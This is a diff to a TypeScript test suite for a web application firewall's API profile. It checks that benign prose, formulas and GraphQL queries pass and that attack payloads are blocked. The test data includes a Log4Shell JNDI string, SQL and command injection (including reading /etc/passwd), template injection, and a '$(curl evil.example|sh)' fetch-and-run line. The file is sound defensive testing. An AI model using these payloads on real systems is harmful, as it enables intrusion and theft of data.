@@ -1,3 +1,4 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
 /**
  * The API profile's value view (view.ts) through the real `waf` policy and CRS v4.28.0: prose that CRS blocks on
  * words alone passes, attacks in the same prose-like fields are still blocked, forged prose names are refused.
@@ -1243,7 +1244,6 @@ describe('waf API profile: attacks held-out 10 found missed (session 7)', () => 
         ),
         'rce',
       ],
-      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, not a template
       [upload("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.5/e}"), 'template'],
       [
         upload(
@@ -1415,5 +1415,93 @@ describe('waf API profile: OAuth redirect URIs (family r, session 8)', () => {
       },
     ])
       assert.ok((await run(api, post(doc))).error !== undefined, JSON.stringify(doc));
+  });
+});
+
+function getInit(target: string): Init {
+  const q = target.indexOf('?');
+  return { method: 'GET', path: target.slice(0, q), query: target.slice(q + 1), headers: { ...ua } };
+}
+
+describe('waf API profile: session 9', () => {
+  test('held-out 11/18/19 look-alikes pass: Drive queries, percentiles, manifests, prose over GraphQL GET', async () => {
+    const drive = `/v4/files/search?q=${encodeURIComponent("mimeType = 'spreadsheet' and 'me' in owners and not trashed")}`;
+    assert.equal((await run(api, getInit(drive))).error, undefined);
+    const note =
+      'Well-child 4 y/o. Growth: 50th %ile ht, 60th %ile wt. Parent questions re: screen time (< 1 hr/day advised).';
+    assert.equal((await run(api, post({ note }))).error, undefined);
+    const message =
+      'Rebased on main; resolved the conflict in package-lock.json by regenerating it. CI should be green now.';
+    assert.equal((await run(api, post({ message }))).error, undefined);
+    const gql = (variables: unknown): string =>
+      `/graphql?query=${encodeURIComponent('mutation AddComment($input: AddCommentInput!) { addComment(input: $input) { id } }')}&variables=${encodeURIComponent(JSON.stringify(variables))}`;
+    assert.equal((await run(api, getInit(gql({ input: { body: message } })))).error, undefined);
+    // The same places with payloads.
+    for (const q of ["x' or 1=1 and not trashed", "mimeType = 'a' and not trashed; drop table files"]) {
+      assert.ok((await run(api, getInit(`/v4/files/search?q=${encodeURIComponent(q)}`))).error, q);
+    }
+    const bad =
+      'Rebased on main; resolved the conflict in /etc/passwd by regenerating it. CI should be green now.';
+    assert.ok((await run(api, post({ message: bad }))).error, bad);
+    assert.ok((await run(api, post({ message: `${message}; whoami` }))).error);
+    assert.ok(
+      (
+        await run(
+          api,
+          getInit(gql({ input: { body: "Rebased on main' UNION SELECT password FROM users --" } })),
+        )
+      ).error,
+    );
+    assert.ok((await run(api, getInit(gql({ input: { body: `${message}; cat /etc/passwd` } })))).error);
+  });
+
+  test('formulas, piped text, workflow references, date arithmetic and code steps pass (held-out 18/19)', async () => {
+    const ok: unknown[] = [
+      { formula: '=IF(B4>0, C4/B4, "")' },
+      { formula: '=SUMIFS(Costs!C:C, Costs!A:A, A4, Costs!B:B, ">="&DATE(2026,1,1))' },
+      { formula: '=LET(rev,SUM(Q1:Q4),cost,SUM(C1:C4),IF(rev=0,NA(),(rev-cost)/rev))' },
+      { values: [['=COUNTIF(C2:C100, "<>")', '=MID(A2, 3, 4)']] },
+      { text: 'What is the main reason for your score of ${e://Field/nps}?' },
+      { input_data: { created: '{{1__created_at}}', body: '{{1__body_plain}}' } },
+      {
+        text: ':tada: New lead *{{ $json.body.company }}* ({{ $json.body.seats }} seats) is waiting for you',
+      },
+      { filter: "plan = 'team' AND last_seen > now() - interval '30 days'" },
+      {
+        parameters: {
+          jsCode: "const [street, rest = ''] = inputData.address.split('\\n');\noutput = { street };",
+        },
+      },
+    ];
+    for (const doc of ok) assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
+    const bad: unknown[] = [
+      { formula: '=A1 union select password from users' },
+      { formula: "=IF(1,\"x' or '1'='1\",2)" },
+      { formula: '=SLEEP(5)' },
+      { formula: '="" OR 1=1 #"' },
+      { text: 'What is the main reason for your score of ${e://Field/nps}? $(curl evil.example|sh)' },
+      { input_data: { created: '{{1__created_at.__class__.__mro__}}' } },
+      { input_data: { created: '{{7*7}}' } },
+      { filter: "last_seen > now() - interval '1 day' or '1'='1'" },
+      { parameters: { jsCode: "require('child_process').exec(req.query.cmd)\nmore()" } },
+    ];
+    for (const doc of bad) assert.ok((await run(api, post(doc))).error, JSON.stringify(doc));
+  });
+
+  test('a probe quoted after a separator in a sentence is refused (the shell removes the quotes)', async () => {
+    for (const note of [
+      'Culture add and more words here; "id"',
+      'Culture add and more words here; "whoami"',
+      "Culture add and more words here; w'h'oami",
+      'Culture add and more words here | "hostname"',
+    ]) {
+      assert.equal((await run(api, post({ note }))).error?.reason, 'waf:rce', note);
+    }
+    for (const note of [
+      'we said it; "idea" is fine and good',
+      'Bot misread "cancel order" as two intents; we split the training phrase.',
+    ]) {
+      assert.equal((await run(api, post({ note }))).error, undefined, note);
+    }
   });
 });
